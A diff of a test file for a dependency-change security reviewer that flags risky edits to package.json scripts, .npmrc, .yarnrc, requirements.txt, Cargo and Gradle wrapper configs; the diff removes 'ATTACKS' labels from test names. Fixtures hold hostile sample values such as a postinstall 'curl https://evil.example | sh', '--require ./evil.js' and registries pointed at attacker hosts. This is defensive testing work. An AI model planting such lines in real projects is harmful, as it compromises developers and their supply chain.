@@ -341,7 +341,7 @@ describe('reviewDependencyChange: lockfiles', () => {
 });
 
 // ------------------------------------------------------------------------------------------------
-// package.json (ATTACKS 43, 45)
+// package.json
 
 const PKG = JSON.stringify({ name: 'x', version: '1.0.0', scripts: { test: 'jest', build: 'tsc' }, dependencies: { a: '^1.0.0' } }, null, 2);
 const pkg = (extra: Record<string, unknown>) => JSON.stringify({ ...JSON.parse(PKG), ...extra }, null, 2);
@@ -352,7 +352,7 @@ describe('package.json', () => {
     expect(review('package.json', PKG, pkg({ version: '1.1.0', scripts: { test: 'jest --ci', build: 'tsc -b' }, dependencies: { a: '^1.2.0' } }))).toEqual([]);
   });
 
-  test('ATTACKS 43: a new postinstall and a changed prepare are high, naming the script and value', () => {
+  test('a new postinstall and a changed prepare are high, naming the script and value', () => {
     const base = pkg({ scripts: { test: 'jest', prepare: 'husky' } });
     const head = pkg({ scripts: { test: 'jest', prepare: 'husky && node x.js', postinstall: 'curl https://evil.example | sh' } });
     const f = review('package.json', base, head);
@@ -433,7 +433,7 @@ describe('package.json', () => {
     expect(codes(review('package.json', PKG, pkg({ packageManager: 'yarn@https://evil.example/yarn.js' })))).toEqual(['package_manager_changed']);
   });
 
-  test('ATTACKS 45 (package.json form): jest.globalSetup is high', () => {
+  test('package.json form: jest.globalSetup is high', () => {
     const f = review('package.json', PKG, pkg({ jest: { globalSetup: './setup.js', verbose: true } }));
     expect(codes(f)).toEqual(['test_runner_setup']);
     expect(f[0]!.message).toContain('jest.globalSetup = "./setup.js"');
@@ -444,7 +444,7 @@ describe('package.json', () => {
   });
 });
 
-describe('ATTACKS 45: test runner configuration', () => {
+describe('test runner configuration', () => {
   test('jest.config.js with globalSetup is high, naming the key', () => {
     const base = "module.exports = {\n  testEnvironment: 'node',\n};\n";
     const head = "module.exports = {\n  testEnvironment: 'node',\n  globalSetup: './setup.js',\n};\n";
@@ -461,20 +461,20 @@ describe('ATTACKS 45: test runner configuration', () => {
 });
 
 // ------------------------------------------------------------------------------------------------
-// Registry and package-manager configuration (ATTACKS 39-42)
+// Registry and package-manager configuration
 
 describe('.npmrc', () => {
-  test('ATTACKS 39: node-options', () => {
+  test('node-options', () => {
     const f = review('.npmrc', null, 'node-options=--require ./evil.js\n');
     expect(codes(f)).toEqual(['npmrc_node_options']);
     expect(f[0]!.message).toBe('".npmrc" sets "node-options" to "--require ./evil.js": Node runs with these options in every npm script (--require runs code before every npm run and npm test).');
   });
 
-  test('ATTACKS 40: script-shell', () => {
+  test('script-shell', () => {
     expect(codes(review('.npmrc', 'save-exact=true\n', 'save-exact=true\nscript-shell=./sh.sh\n'))).toEqual(['npmrc_script_shell']);
   });
 
-  test('ATTACKS 41: registry and scoped registry, with the allow-list status', () => {
+  test('registry and scoped registry, with the allow-list status', () => {
     const f = review('.npmrc', 'registry=https://registry.npmjs.org/\n', 'registry=https://npm.evil.example/\n@acme:registry=https://npm.internal.example/\n');
     expect(codes(f)).toEqual(['npmrc_registry', 'npmrc_registry']);
     expect(f[0]!.message).toContain('changes "registry" to "https://npm.evil.example/"');
@@ -508,13 +508,13 @@ describe('.npmrc', () => {
 });
 
 describe('.yarnrc.yml / .yarnrc', () => {
-  test('ATTACKS 42: yarnPath', () => {
+  test('yarnPath', () => {
     const f = review('.yarnrc.yml', 'nodeLinker: node-modules\n', 'nodeLinker: node-modules\nyarnPath: .yarn/releases/evil.cjs\n');
     expect(codes(f)).toEqual(['yarnrc_yarn_path']);
     expect(f[0]!.message).toContain('"yarnPath" to ".yarn/releases/evil.cjs"');
   });
 
-  test('ATTACKS 41: npmRegistryServer and npmScopes', () => {
+  test('npmRegistryServer and npmScopes', () => {
     const head = 'npmRegistryServer: "https://npm.evil.example"\nnpmScopes:\n  acme:\n    npmRegistryServer: "https://npm.internal.example"\n    npmAuthToken: "literal-token-value"\n';
     const f = review('.yarnrc.yml', null, head);
     expect(codes(f)).toEqual(['yarnrc_registry', 'yarnrc_registry', 'yarnrc_auth']);
@@ -538,12 +538,12 @@ describe('.yarnrc.yml / .yarnrc', () => {
 });
 
 // ------------------------------------------------------------------------------------------------
-// Python (ATTACKS 46)
+// Python
 
 describe('Python', () => {
   const REQ = 'requests==2.32.3\nflask>=3\n';
 
-  test('ATTACKS 46: --extra-index-url', () => {
+  test('--extra-index-url', () => {
     const f = review('requirements.txt', REQ, `--extra-index-url https://pkgs.evil/simple\n${REQ}`);
     expect(codes(f)).toEqual(['python_index']);
     expect(f[0]!.message).toContain('adds "--extra-index-url" "https://pkgs.evil/simple"');
@@ -589,10 +589,10 @@ describe('Python', () => {
 });
 
 // ------------------------------------------------------------------------------------------------
-// Toolchains (ATTACKS 52)
+// Toolchains
 
 describe('Cargo and wrappers', () => {
-  test('ATTACKS 52: .cargo/config.toml rustc-wrapper (table, dotted and inline forms)', () => {
+  test('.cargo/config.toml rustc-wrapper (table, dotted and inline forms)', () => {
     expect(codes(review('.cargo/config.toml', null, '[build]\nrustc-wrapper = "./evil.sh"\n'))).toEqual(['cargo_rustc_wrapper']);
     expect(codes(review('.cargo/config.toml', null, 'build.rustc-wrapper = "./evil.sh"\n'))).toEqual(['cargo_rustc_wrapper']);
     const f = review('.cargo/config.toml', '[build]\njobs = 4\n', 'build = { jobs = 4, "rustc-wrapper" = "./evil.sh" }\n');
@@ -607,7 +607,7 @@ describe('Cargo and wrappers', () => {
     expect(f[0]!.message).toContain('"target.cfg(unix).runner" to "./run.sh"');
   });
 
-  test('ATTACKS 52: gradle-wrapper.properties distributionUrl', () => {
+  test('gradle-wrapper.properties distributionUrl', () => {
     const base = 'distributionBase=GRADLE_USER_HOME\ndistributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-bin.zip\ndistributionSha256Sum=abc\n';
     const head = 'distributionBase=GRADLE_USER_HOME\ndistributionUrl=https\\://gradle.evil.example/gradle-8.10-bin.zip\n';
     const f = review('gradle/wrapper/gradle-wrapper.properties', base, head, [...ALLOW, 'services.gradle.org']);
